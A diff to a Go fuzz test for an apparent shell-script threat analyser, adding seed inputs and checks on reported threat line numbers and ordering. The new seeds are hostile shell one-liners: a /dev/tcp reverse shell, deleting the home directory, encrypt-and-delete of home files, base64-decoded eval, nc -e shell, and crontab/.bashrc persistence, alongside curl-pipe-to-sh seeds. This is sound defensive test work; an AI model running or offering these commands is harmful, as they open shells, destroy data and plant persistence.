@@ -164,6 +164,12 @@ func FuzzAnalyze(f *testing.F) {
 		"curl -fsSL https://x.example/i.sh | sh\n",
 		"sh -c \"$(curl -fsSL https://x.example/i.sh)\"\n",
 		"curl -sSLo i.sh https://x.example/i.sh && bash ./i.sh\n",
+		"bash -i >& /dev/tcp/192.0.2.7/1 0>&1\n",
+		"D=~\nrm -rf \"$D\"/*\n",
+		"for f in $(find ~ -type f); do gpg -c \"$f\"; rm \"$f\"; done\n",
+		"eval \"$(echo ZWNobw== | base64 -d)\"\n",
+		"sh -c 'sh -c \"nc -e /bin/sh h 1\"'\n",
+		"echo x >> ~/.bashrc; (crontab -l; echo y) | crontab -\n",
 	} {
 		f.Add([]byte(s))
 	}
@@ -179,6 +185,12 @@ func FuzzAnalyze(f *testing.F) {
 		for _, fd := range sc.Findings {
 			if fd.DownloadLine < 1 || fd.RunLine > lines || fd.DownloadLine > fd.RunLine {
 				t.Fatalf("finding %v outside the script's %d lines", fd, lines)
+			}
+		}
+		for i, th := range sc.Threats {
+			if th.Line < 1 || th.Line > lines || th.From > lines || th.Detail == "" || th.Rule == "" ||
+				i > 0 && sc.Threats[i-1].Line > th.Line {
+				t.Fatalf("threat %v outside the script's %d lines, empty or out of order", th, lines)
 			}
 		}
 		for _, u := range append(slices.Clone(sc.Saves), sc.Runs...) {
